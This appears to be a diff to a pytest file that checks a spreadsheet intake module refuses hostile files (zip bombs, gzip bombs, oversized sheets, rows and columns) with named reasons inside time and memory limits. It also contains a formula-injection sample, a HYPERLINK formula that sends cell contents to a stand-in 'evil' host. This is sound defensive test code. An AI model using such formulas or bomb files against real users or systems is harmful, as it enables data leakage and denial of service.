@@ -1,11 +1,16 @@
 """Files made to do harm end in a reason, fast, and leave this process alone."""
 
+import json
 import struct
+import subprocess
+import sys
 import time
 import zipfile
 import zlib
+from pathlib import Path
 
 import pytest
+from conftest import require
 from sheets import TODAY, csv_sheet, rewritten, xlsx_sheet
 
 from sales_core.intake.prepare import prepare_file
@@ -68,3 +73,74 @@ def test_a_formula_in_a_text_file_stays_text(tmp_path):
     )
     (sheet,) = prepare_file(path, today=TODAY)
     assert sheet.table["customer"].to_pylist() == ['=HYPERLINK("http://evil/?"&A1,"x")']
+
+
+MAKER = Path(__file__).parents[3] / "shared" / "hostile" / "make_hostile.py"
+READ_ALL = """
+import json, resource, sys, time
+from datetime import date
+from pathlib import Path
+from sales_core.intake.prepare import prepare_file
+
+for path in sorted(Path(sys.argv[1]).iterdir()):
+    begun = time.monotonic()
+    sheets = prepare_file(path, today=date(2026, 11, 24))
+    told = {"name": path.name, "seconds": time.monotonic() - begun, "ends": [sheet.status for sheet in sheets]}
+    told["codes"] = [sheet.issues[0].code if sheet.issues else "" for sheet in sheets]
+    told["peak"] = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
+    print(json.dumps(told), flush=True)
+"""
+
+
+@pytest.fixture(scope="module")
+def every_hostile_file(tmp_path_factory):
+    """What became of each file that the maker beside the project writes, by name."""
+    if not MAKER.exists():
+        require("the maker of hostile files in ../shared/hostile")
+    folder = tmp_path_factory.mktemp("hostile")
+    subprocess.run([sys.executable, MAKER, folder], check=True, stdout=subprocess.DEVNULL)
+    told = subprocess.run(
+        [sys.executable, "-c", READ_ALL, folder],
+        check=True,
+        capture_output=True,
+        text=True,
+        cwd=Path(__file__).parents[2],
+    )
+    for path in folder.iterdir():
+        path.unlink()
+    return {(found := json.loads(line))["name"]: found for line in told.stdout.splitlines()}
+
+
+@pytest.mark.real
+def test_every_hostile_file_ends_in_a_result_or_a_named_reason_in_time_and_memory(every_hostile_file):
+    assert len(every_hostile_file) >= 100
+    unnamed = [
+        name
+        for name, found in every_hostile_file.items()
+        if not found["ends"]
+        or any(end != "committed" and not code for end, code in zip(found["ends"], found["codes"], strict=True))
+    ]
+    assert unnamed == []
+    assert {name: found["seconds"] for name, found in every_hostile_file.items() if found["seconds"] > 25} == {}
+    assert max(found["peak"] for found in every_hostile_file.values()) < 1.5 * 2**30
+
+
+@pytest.mark.real
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [
+        ("sparse_far_corner.xlsx", "too_much_memory"),
+        ("bomb_sheet_1GB.xlsx", "unzips_too_large"),
+        ("bomb_lying_size.xlsx", "unzips_too_large"),
+        ("overlap_64GB.xlsx", "unzips_too_large"),
+        ("many_sheets_50k.xlsx", "too_many_sheets"),
+        ("rows_5M.csv", "too_many_rows"),
+        ("one_line_100MB.csv", "cell_too_long"),
+        ("unclosed_quote_5MB.csv", "cell_too_long"),
+        ("gzbomb.csv.gz", "compressed_file"),
+        ("binary.csv", "not_a_sheet"),
+        ("repeat_cols_2e9.ods", "too_many_columns"),
+    ],
+)
+def test_a_hostile_file_is_refused_for_what_it_is(every_hostile_file, name, code):
+    assert every_hostile_file[name]["codes"] == [code]
